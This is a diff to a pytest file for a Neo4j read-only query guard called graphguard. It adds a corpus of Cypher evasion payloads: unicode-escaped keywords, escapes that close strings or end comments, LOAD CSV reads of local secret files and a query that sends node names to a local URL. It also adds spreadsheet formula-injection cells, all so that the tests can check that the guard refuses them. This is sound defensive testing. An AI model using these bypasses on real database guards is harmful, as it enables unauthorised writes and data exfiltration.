@@ -15,7 +15,9 @@ import csv
 import datetime as dt
 import io
 import json
+import logging
 import re
+import warnings
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -41,11 +43,12 @@ from graphguard.cypher import (
     parse_literal,
     parse_query,
     read_audit,
+    read_plan,
     run_library_query,
     run_query,
 )
 from graphguard.cypher_cli import cypher, format_result
-from graphguard.errors import RefusedError, UsageError
+from graphguard.errors import GraphguardError, RefusedError, UsageError
 
 ROOT = Path(__file__).resolve().parents[1]
 STORY = json.loads((ROOT / "fixtures" / "demo" / "story.json").read_text(encoding="utf-8"))
@@ -388,6 +391,58 @@ ALLOWED: list[str] = [
     "OPTIONAL MATCH (n:Nothing) RETURN n",
     "MATCH (n) RETURN n LIMIT 5;",
     "RETURN 1 AS one; // done",
+    "RETURN 'C:\\\\temp\\\\x' AS path, 'it\\'s' AS text // backslashes: C:\\temp",
+    "RETURN '\\U0001F600' AS not_an_escape_in_neo4j_5",
+]
+
+
+# Neo4j decodes \uXXXX anywhere in the text before it reads the query: in keywords, in
+# names, in strings (\u0027 closes a '…' string), in back-quoted names (\u0060 closes one)
+# and in comments (\u000a or \u000d ends a // comment, \u002a/ ends a /* comment).  Each of
+# these would hide what the server sees from a check that reads the text as written.
+ESCAPE_BYPASSES: list[str] = [
+    "WITH 1 AS x \\u004cOAD CSV FROM 'file:///secret.csv' AS l RETURN l",
+    "MATCH (p:YoungPerson) \\u004cOAD CSV FROM 'http://127.0.0.1:8765/?n=' + p.name AS l RETURN l",
+    "\\u0043REATE (n:Tmp)",
+    "MATCH (n) \\u0053ET n.x = 1",
+    "CALL db\\u002ecreateLabel('Tmp')",
+    "CALL db\\u002einfo()",
+    "RETURN \\u0061poc.text.join(['a'], ',') AS x",
+    "\\u0055SE system SHOW USERS",
+    "RETURN 1 AS one\\u003b CREATE (n:Tmp)",
+    "WITH '\\u0027 AS x LOAD CSV FROM 'file:///secret.csv' AS l RETURN l //' AS y RETURN y",
+    "MATCH (`a\\u0060) CREATE (m:Tmp) //`) RETURN 1",
+    "MATCH (n) // only reading\\u000aCREATE (m:Tmp)",
+    "MATCH (n) // only reading\\u000dCREATE (m:Tmp)",
+    "MATCH (n) /* \\u002a/ CREATE (m:Tmp) // */",
+]
+
+_ESCAPABLE = re.compile(
+    r"\b(CREATE|MERGE|SET|DELETE|DETACH|REMOVE|FOREACH|INSERT|LOAD|USE|DROP|ALTER|GRANT|DENY"
+    r"|REVOKE|SHOW|TERMINATE|START|STOP|CALL|PROFILE|EXPLAIN|TRANSACTIONS|UNION|RETURN)\b",
+    re.IGNORECASE,
+)
+
+
+def escaped(text: str) -> str:
+    """``text`` as Neo4j reads it, with \\uXXXX escapes hiding what a naive check looks for.
+
+    The first letter of each keyword a check looks for, every '.' (procedure and function
+    names) and every ';' become escapes.
+    """
+    text = _ESCAPABLE.sub(lambda m: f"\\u{ord(m.group()[0]):04x}{m.group()[1:]}", text)
+    return text.replace(".", "\\u002e").replace(";", "\\u003b")
+
+
+# Every attempt of the refusal corpus again: with escapes; after a // comment that a
+# carriage return ends; and after one that an escaped carriage return ends.
+ESCAPED_REFUSED: list[str] = [escaped(text) for text in REFUSED]
+CR_COMMENT_REFUSED: list[str] = [f"// only reading\r{text}" for text in REFUSED]
+ESCAPED_CR_COMMENT_REFUSED: list[str] = [
+    f"// only reading\\u000d{escaped(text)}" for text in REFUSED
+]
+EVASIONS: list[str] = [
+    *ESCAPE_BYPASSES, *ESCAPED_REFUSED, *CR_COMMENT_REFUSED, *ESCAPED_CR_COMMENT_REFUSED,
 ]
 
 
@@ -416,10 +471,65 @@ def test_static_check_reasons_say_what_was_refused() -> None:
         "SHOW USERS": "SHOW is",
         "PROFILE MATCH (n) RETURN n": "PROFILE is not available",
         "RETURN apoc.text.join(['a'], ',') AS x": "function apoc.text.join is not one",
+        "\\u004cOAD CSV FROM 'x' AS r RETURN r": "the query uses the escape \\u004c",
+        "RETURN 1 AS `a\\b`": "a backslash outside a string literal (character 13)",
     }
     for text, reason in cases.items():
         with pytest.raises(RefusedError, match=re.escape(reason)):
             check_read_only_text(text)
+
+
+def test_escaped_corpus_escapes_every_attempt() -> None:
+    assert len(ESCAPED_REFUSED) == len(REFUSED)
+    for plain, hidden in zip(REFUSED, ESCAPED_REFUSED, strict=True):
+        assert hidden != plain and "\\u" in hidden
+    assert escaped("CALL db.createLabel('X')") == "\\u0043ALL db\\u002ecreateLabel('X')"
+
+
+@pytest.mark.parametrize("text", [*ESCAPE_BYPASSES, *ESCAPED_REFUSED, *ESCAPED_CR_COMMENT_REFUSED])
+def test_static_check_refuses_any_unicode_escape(text: str) -> None:
+    with pytest.raises(RefusedError, match=r"the query uses the escape \\u[0-9a-f]{4} \(character"):
+        check_read_only_text(text)
+
+
+@pytest.mark.parametrize("text", REFUSED)
+def test_a_carriage_return_ends_a_comment_for_the_check_too(text: str) -> None:
+    with pytest.raises(RefusedError) as plain:
+        check_read_only_text(text)
+    with pytest.raises(RefusedError) as after_comment:
+        check_read_only_text(f"// only reading\r{text}")
+    assert str(after_comment.value) == str(plain.value)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "RETURN 1 AS \\u0061",
+        "RETURN 'it\\u0027s' AS text",  # even inside a string: \u0027 closes it
+        "RETURN 1 AS x // caf\\u00e9",  # even in a comment
+        "RETURN 'a\\\\u0061' AS text",  # not decoded by Neo4j, refused all the same
+        "RETURN 1 AS x \\u",
+    ],
+)
+def test_unicode_escapes_are_refused_even_in_strings_and_comments(text: str) -> None:
+    with pytest.raises(RefusedError, match="Neo4j decodes") as raised:
+        check_read_only_text(text)
+    assert "\n" not in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "RETURN 1 AS `a\\b`",
+        "RETURN $`a\\b` AS x",
+        "MATCH (n) RETURN n.x \\ 2 AS y",
+        "RETURN 1 AS x \\U0043REATE (n:Tmp)",
+        "MATCH (n)\\\nCREATE (m:Tmp)",
+    ],
+)
+def test_a_backslash_outside_strings_is_refused(text: str) -> None:
+    with pytest.raises(RefusedError, match="a backslash outside a string literal"):
+        check_read_only_text(text)
 
 
 def test_static_check_sends_the_statement_alone() -> None:
@@ -466,6 +576,52 @@ def test_plan_check_accepts_only_reads() -> None:
     ]:
         with pytest.raises(RefusedError, match=word):
             check_plan_read_only(plan)
+
+
+def _operator(kind: str, details: str = "", *children: dict[str, Any]) -> dict[str, Any]:
+    return {"operatorType": f"{kind}@neo4j", "args": {"Details": details, "Id": 0},
+            "children": list(children)}
+
+
+def test_plan_check_refuses_reads_that_leave_the_graph() -> None:
+    load_csv = read_plan("r", _operator("ProduceResults", "l", _operator("LoadCSV", "l")))
+    assert load_csv.operators == {"ProduceResults", "LoadCSV"}
+    with pytest.raises(RefusedError, match=r"shows a LOAD CSV \(LoadCSV operator\)"):
+        check_plan_read_only(load_csv)
+
+    info = read_plan("r", _operator("ProcedureCall", "db.info() :: (id :: STRING)"))
+    assert info.procedures == {"db.info"} and info.functions == frozenset()
+    with pytest.raises(RefusedError, match=r"procedure db\.info, which is not on the read-only"):
+        check_plan_read_only(info)
+    quoted = read_plan("r", _operator("ProcedureCall", "`db`.`labels`() :: (label :: STRING)"))
+    assert quoted.procedures == {"db.labels"}
+    check_plan_read_only(quoted)
+    unnamed = read_plan("r", {"operatorType": "ProcedureCall@neo4j", "args": {}})
+    with pytest.raises(RefusedError, match="procedure"):
+        check_plan_read_only(unnamed)
+
+    plugin = read_plan(
+        "r",
+        _operator("ProduceResults", "n", _operator(
+            "Projection", "apoc.cypher.runFirstColumnSingle($autostring_0, {}) AS n")),
+    )
+    assert plugin.functions == {"apoc.cypher.runFirstColumnSingle"}
+    with pytest.raises(RefusedError, match=r"function apoc\.cypher\.runFirstColumnSingle, which"):
+        check_plan_read_only(plugin)
+    in_arguments = read_plan("r", _operator("ProcedureCall", "db.labels(apoc.x.y()) :: ()"))
+    with pytest.raises(RefusedError, match=r"function apoc\.x\.y\b"):
+        check_plan_read_only(in_arguments)
+
+    builtins = read_plan(
+        "r",
+        _operator("Filter", "n.x = vector.similarity.cosine($autolist_0, $autolist_1) AND "
+                            "date.truncate('month', n.seen) = n.`odd.name` AND 'apoc.x(' <> n.y"),
+    )
+    assert builtins.functions == {"vector.similarity.cosine", "date.truncate"}
+    check_plan_read_only(builtins)
+    # Details that do not tokenise are read crudely: that can only find more.
+    crude = read_plan("r", _operator("Projection", "apoc.util.sleep(1) AS `open"))
+    assert crude.functions == {"apoc.util.sleep"}
 
 
 def test_a_static_refusal_is_audited_without_a_server(tmp_path: Path) -> None:
@@ -522,6 +678,49 @@ def test_format_result_csv_json_table() -> None:
     assert table[-1].startswith("(2 rows (cut at the row limit)")
     with pytest.raises(UsageError):
         format_result(_result(), "xml")
+
+
+def test_csv_and_json_cells_are_safe_in_a_spreadsheet() -> None:
+    result = QueryResult(
+        columns=["=cmd", "name", "n", "ids", "node", "tab", "flag"],
+        rows=[
+            {"=cmd": "@SUM(A1)", "name": '=HYPERLINK("http://x","y")', "n": -3,
+             "ids": ["+1", "x"], "node": {"properties": {"name": "-2+3"}}, "tab": "\tx",
+             "flag": False},
+            {"=cmd": "plain", "name": "a\r=b", "n": -2.5, "ids": [-1, 2], "node": None,
+             "tab": "\r=1", "flag": None},
+        ],
+        truncated=False,
+        row_limit=10,
+        elapsed=0.1,
+    )
+    text = format_result(result, "csv")
+    # A carriage return inside a cell is quoted, so it cannot start a row (and a formula).
+    assert '"a\r=b"' in text and text.count("\r\n") == 3
+    header, first, second = csv.reader(io.StringIO(text, newline=""))
+    assert header == ["'=cmd", "name", "n", "ids", "node", "tab", "flag"]
+    assert first == ["'@SUM(A1)", "'=HYPERLINK(\"http://x\",\"y\")", "-3", "'+1; x",
+                     '{"properties": {"name": "-2+3"}}', "'\tx", "false"]
+    assert second == ["plain", "a\r=b", "-2.5", "'-1; 2", "", "'\r=1", ""]
+    assert json.loads(format_result(result, "json")) == [
+        {"=cmd": "'@SUM(A1)", "name": "'=HYPERLINK(\"http://x\",\"y\")", "n": -3,
+         "ids": ["'+1", "x"], "node": {"properties": {"name": "'-2+3"}}, "tab": "'\tx",
+         "flag": False},
+        {"=cmd": "plain", "name": "a\r=b", "n": -2.5, "ids": [-1, 2], "node": None,
+         "tab": "'\r=1", "flag": None},
+    ]
+
+
+def test_local_neo4j_refuses_load_csv_from_files_unless_asked(tmp_path: Path) -> None:
+    import inspect
+
+    from graphguard.neo4j_local import start
+    from graphguard.neo4j_local.server import _neo4j_conf
+
+    setting = "dbms.security.allow_csv_import_from_file_urls"
+    assert f"{setting}=false" in _neo4j_conf(tmp_path, 7687).splitlines()
+    assert f"{setting}=true" in _neo4j_conf(tmp_path, 7687, allow_csv_import=True).splitlines()
+    assert inspect.signature(start).parameters["allow_csv_import"].default is False
 
 
 # ============================================================================ CLI (no server)
@@ -904,6 +1103,193 @@ def test_read_access_mode_refuses_writes_on_its_own(driver: Any) -> None:
         with pytest.raises(RefusedError, match="read access mode"):
             execute_read(driver, text, timeout=10, row_limit=10)
     assert graph_state(driver) == before
+
+
+@pytest.mark.neo4j
+def test_neo4j_decodes_unicode_escapes_everywhere(driver: Any) -> None:
+    """Why the static check refuses every \\u escape: the server decodes them anywhere."""
+    with driver.session() as session:
+        assert session.run("RETURN 1 AS \\u0061").keys() == ["a"]
+        assert session.run("RETURN 1 AS `a\\u0062`").keys() == ["ab"]
+        closed = session.run("RETURN '\\u0027 AS x, 1 AS y //' AS z")
+        assert closed.keys() == ["x", "y"]  # \u0027 closed the string
+        plan = session.run("EXPLAIN MATCH (n) // note\\u000dCREATE (m:Tmp)").consume()
+        assert plan.query_type == "w"  # \u000d ended the comment
+
+
+@pytest.mark.neo4j
+def test_escaped_and_comment_hidden_attempts_are_refused_and_change_nothing(
+    driver: Any, audit: Path
+) -> None:
+    before = graph_state(driver)
+    for text in EVASIONS:
+        with pytest.raises(RefusedError):
+            run_query(driver, text, timeout=10, row_limit=100, audit_path=audit, user="test")
+    assert graph_state(driver) == before
+    entries = read_audit(audit)
+    assert [e["text"] for e in entries] == EVASIONS
+    assert len(EVASIONS) == len(ESCAPE_BYPASSES) + 3 * len(REFUSED)
+    assert {e["outcome"] for e in entries} == {"refused"}
+
+
+def _server_side_layers(driver: Any, text: str) -> str:
+    """What the server-side layers alone (EXPLAIN's plan, the READ transaction) make of it."""
+    try:
+        check_plan_read_only(explain_query(driver, text, timeout=10))
+        execute_read(driver, text, timeout=10, row_limit=10)
+    except RefusedError as exc:
+        return f"refused: {exc}"
+    except GraphguardError as exc:
+        return f"failed: {exc}"
+    return "ran"
+
+
+# Attempts the server-side layers let run: reading the server's default database by name,
+# the one graphguard uses anyway (the static check refuses any USE).
+HARMLESS_ON_THE_SERVER = {"USE neo4j MATCH (n) RETURN n"}
+
+
+@pytest.mark.neo4j
+def test_server_side_layers_stop_escaped_attempts_on_their_own(driver: Any) -> None:
+    before = graph_state(driver)
+    attempts = [
+        *ESCAPE_BYPASSES,
+        *(
+            hidden
+            for plain, hidden in zip(REFUSED, ESCAPED_REFUSED, strict=True)
+            if plain not in HARMLESS_ON_THE_SERVER
+        ),
+        *(
+            hidden
+            for plain, hidden in zip(REFUSED, ESCAPED_CR_COMMENT_REFUSED, strict=True)
+            if plain not in HARMLESS_ON_THE_SERVER
+        ),
+    ]
+    ran = [text for text in attempts if _server_side_layers(driver, text) == "ran"]
+    assert ran == []
+    assert graph_state(driver) == before
+
+
+@pytest.mark.neo4j
+def test_escaped_load_csv_is_refused_by_the_plan_check_alone(driver: Any) -> None:
+    file_read, url_leak = ESCAPE_BYPASSES[0], ESCAPE_BYPASSES[1]
+    string_closing = next(t for t in ESCAPE_BYPASSES if t.startswith("WITH '"))
+    for text in (file_read, url_leak, string_closing):
+        plan = explain_query(driver, text, timeout=10)
+        # The server types LOAD CSV as a read: the query type alone lets it through.
+        assert plan.query_type == "r" and "LoadCSV" in plan.operators, text
+        with pytest.raises(RefusedError, match=r"shows a LOAD CSV \(LoadCSV operator\)"):
+            check_plan_read_only(plan)
+
+
+@pytest.mark.neo4j
+def test_escaped_procedures_and_functions_are_refused_server_side(driver: Any) -> None:
+    info = explain_query(driver, "CALL db\\u002einfo()", timeout=10)
+    assert info.query_type == "r" and info.procedures == {"db.info"}
+    with pytest.raises(RefusedError, match=r"procedure db\.info, which is not on the read-only"):
+        check_plan_read_only(info)
+    write = explain_query(driver, "CALL db\\u002ecreateLabel('Tmp')", timeout=10)
+    with pytest.raises(RefusedError, match="EXPLAIN says this query writes"):
+        check_plan_read_only(write)
+    # No plugin is installed on the test server, so it cannot plan a plugin function at
+    # all; the plan check's function rule is tested on a plan above.
+    with pytest.raises(UsageError, match=r"Unknown function 'apoc\.text\.join'"):
+        explain_query(driver, "RETURN \\u0061poc.text.join(['a'], ',') AS x", timeout=10)
+
+
+@pytest.mark.neo4j
+def test_show_and_terminate_commands_are_refused_by_the_plan_check(driver: Any) -> None:
+    for text, operator in [
+        ("SHOW TRANSACTIONS YIELD transactionId, currentQuery, parameters", "ShowTransactions"),
+        ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "TerminateTransactions"),
+        ("SHOW SETTINGS YIELD name, value", "ShowSettings"),
+    ]:
+        plan = explain_query(driver, text, timeout=10)
+        # Typed as reads, and a READ transaction runs them: only the plan check stops them.
+        assert plan.query_type == "r" and operator in plan.operators, text
+        with pytest.raises(RefusedError, match=rf"shows a command \({operator} operator\)"):
+            check_plan_read_only(plan)
+
+
+@pytest.mark.neo4j
+def test_the_server_refuses_load_csv_from_files(driver: Any) -> None:
+    setting = "dbms.security.allow_csv_import_from_file_urls"
+    with driver.session() as session:
+        value = session.run(
+            "SHOW SETTINGS YIELD name, value WHERE name = $name RETURN value", name=setting
+        ).single(strict=True)["value"]
+    if value != "false":
+        pytest.skip(f"this test server allows LOAD CSV from files ({setting}={value})")
+    with pytest.raises(UsageError, match=re.escape(setting)):
+        execute_read(driver, ESCAPE_BYPASSES[0], timeout=10, row_limit=10)
+
+
+@pytest.mark.neo4j
+def test_server_notices_reach_the_cli_as_one_line_each(
+    driver: Any,
+    neo4j_env: Any,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    from graphguard.settings import get_settings
+
+    caplog.set_level(logging.DEBUG, logger="neo4j")
+    monkeypatch.setenv("GRAPHGUARD_AUDIT_LOG", str(tmp_path / "audit.jsonl"))
+    get_settings.cache_clear()
+
+    code, out, err = cli("run", "--query", "MATCH (n:Adult) WHERE n.nme = 'x' RETURN n.id AS id")
+    assert code == 0, err
+    (line,) = err.splitlines()
+    assert re.fullmatch(
+        r"graphguard: Neo4j notice: .*The property `nme` does not exist\..* "
+        r"\(line 1, column 25\)",
+        line,
+    ), line
+
+    code, out, err = cli(
+        "run", "--query", "MATCH (n:Adult) CALL { WITH n RETURN n.id AS i } RETURN i LIMIT 1"
+    )
+    assert code == 0, err
+    assert err and all(line.startswith("graphguard: Neo4j notice: ") for line in err.splitlines())
+    assert "deprecated" in err
+
+    code, out, err = cli("run", "--query", "RETURN $x AS x")
+    assert code == 2 and out == ""
+    assert err == "graphguard: error: Neo4j could not run the query: Expected parameter(s): x\n"
+    assert not [r for r in caplog.records if r.name.startswith("neo4j.notifications")]
+
+
+@pytest.mark.neo4j
+def test_driver_notifications_stay_quiet_even_in_development_mode(
+    driver: Any, neo4j_server: Any, audit: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    import neo4j
+    from neo4j.warnings import Neo4jWarning
+
+    caplog.set_level(logging.DEBUG, logger="neo4j")
+    noisy = neo4j.GraphDatabase.driver(
+        neo4j_server.uri,
+        auth=(neo4j_server.username, neo4j_server.password),
+        warn_notification_severity="INFORMATION",  # what python -X dev turns on
+    )
+    query = "MATCH (n:Adult) WHERE n.nme = 'x' RETURN n.id AS id"
+    try:
+        with warnings.catch_warnings(record=True) as caught:
+            warnings.simplefilter("always")
+            with noisy.session() as session:  # on its own, the driver warns and logs
+                session.run(query).consume()
+            assert any(issubclass(w.category, Neo4jWarning) for w in caught)
+            assert any(r.name == "neo4j.notifications" for r in caplog.records)
+            caught.clear()
+            caplog.clear()
+            result = run_query(noisy, query, timeout=10, row_limit=10, audit_path=audit)
+    finally:
+        noisy.close()
+    assert not [w for w in caught if issubclass(w.category, Neo4jWarning)]
+    assert not [r for r in caplog.records if r.name.startswith("neo4j.notifications")]
+    (notice,) = result.notices
+    assert "`nme`" in notice and "\n" not in notice
 
 
 @pytest.mark.neo4j
